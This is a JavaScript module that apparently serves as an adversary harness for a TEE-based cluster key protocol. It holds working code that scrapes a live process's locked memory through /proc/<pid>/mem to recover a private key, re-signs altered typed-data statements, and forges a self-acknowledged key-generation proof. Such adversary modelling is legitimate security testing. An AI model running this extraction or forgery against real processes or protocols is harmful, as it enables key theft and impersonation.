// An excluded member whose TEE is broken: its cluster key, taken out of the locked pages of a live process, and what
// an attacker signs with it.
import assert from "node:assert";
import crypto from "node:crypto";
import fs from "node:fs";
import { secp256k1 } from "@noble/curves/secp256k1";
import { keccak_256 } from "@noble/hashes/sha3";

// Locked, readable ranges of a process: {from, to}.
function locked(pid) {
  const ranges = [];
  let range;
  for (const line of fs.readFileSync(`/proc/${pid}/smaps`, "latin1").split("\n")) {
    const head = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
    if (/^[0-9a-f]+-[0-9a-f]+ /.test(line)) range = head && { from: Number(`0x${head[1]}`), to: Number(`0x${head[2]}`) };
    else if (range && /^VmFlags:.* lo\b/.test(line)) ranges.push(range);
  }
  return ranges;
}

// The secret of a public key (66 hex digits), as it stands in the locked memory of a process; null: it is not there.
export function secretOf(pid, pubkey) {
  const memory = fs.openSync(`/proc/${pid}/mem`, "r");
  try {
    for (const { from, to } of locked(pid)) {
      const bytes = Buffer.alloc(to - from);
      fs.readSync(memory, bytes, 0, bytes.length, from);
      for (let at = 0; at + 32 <= bytes.length; at += 8) {
        const secret = bytes.subarray(at, at + 32);
        if (secp256k1.utils.isValidPrivateKey(secret) && Buffer.from(secp256k1.getPublicKey(secret)).toString("hex") === pubkey)
          return Buffer.from(secret);
      }
    }
    return null;
  } finally {
    fs.closeSync(memory);
  }
}

const sha256 = (...parts) => crypto.createHash("sha256").update(Buffer.concat(parts)).digest();
const signed = (digest, secret) => Buffer.from(secp256k1.sign(digest, secret).toCompactRawBytes());
const be = (x, bytes) => Buffer.from(BigInt(x).toString(16).padStart(2 * bytes, "0"), "hex");

// A statement changed by change(message), signed anew: of typed data {domain, types, primaryType, message}. digestOf: the
// verifier's, which knows the types.
export function resign(statement, secret, change, digestOf) {
  const forged = structuredClone(statement);
  change(forged.message);
  const signature = secp256k1.sign(Buffer.from(digestOf(forged).slice(2), "hex"), secret);
  forged.signature = `0x${Buffer.from(signature.toCompactRawBytes()).toString("hex")}${(27 + signature.recovery).toString(16)}`;
  const point = secp256k1.getPublicKey(secret, false).slice(1);
  forged.signer = `0x${Buffer.from(keccak_256(point)).subarray(12).toString("hex")}`;
  return forged;
}

// A generation that nobody asked for: the entry of a maker of its own, under the order of a true proof, with a key of its
// own, acknowledged by itself. Layouts: overlay/entry.h.
export function ownGeneration(proof, fromSlot) {
  const true_ = Buffer.from(proof.slice(2), "hex");
  const orderEnd = 2 + true_.readUInt16BE(0);
  const order = true_.subarray(0, orderEnd);
  const [maker, key] = [secp256k1.utils.randomPrivateKey(), secp256k1.utils.randomPrivateKey()];
  const entry = true_.subarray(orderEnd + 2);
  assert.strictEqual(entry.subarray(0, 12).toString(), "kettle-key/1");
  const name = entry.subarray(16, 16 + 32 + 8 + 1);
  const members = Buffer.from(secp256k1.getPublicKey(maker));
  const body = Buffer.concat([entry.subarray(0, 16), name, secp256k1.getPublicKey(key), be(fromSlot, 8), be(1, 1), members]);
  const g = sha256(body);
  const whole = Buffer.concat([body, signed(g, maker), signed(g, key)]);
  const ack = signed(sha256(Buffer.from("kettle-key-ack/1"), g), maker);
  const bytes = Buffer.concat([order, be(whole.length, 2), whole, be(1, 1), members, ack]);
  return { proof: `0x${bytes.toString("hex")}`, pubkey: Buffer.from(secp256k1.getPublicKey(key)).toString("hex"), secret: Buffer.from(key) };
}
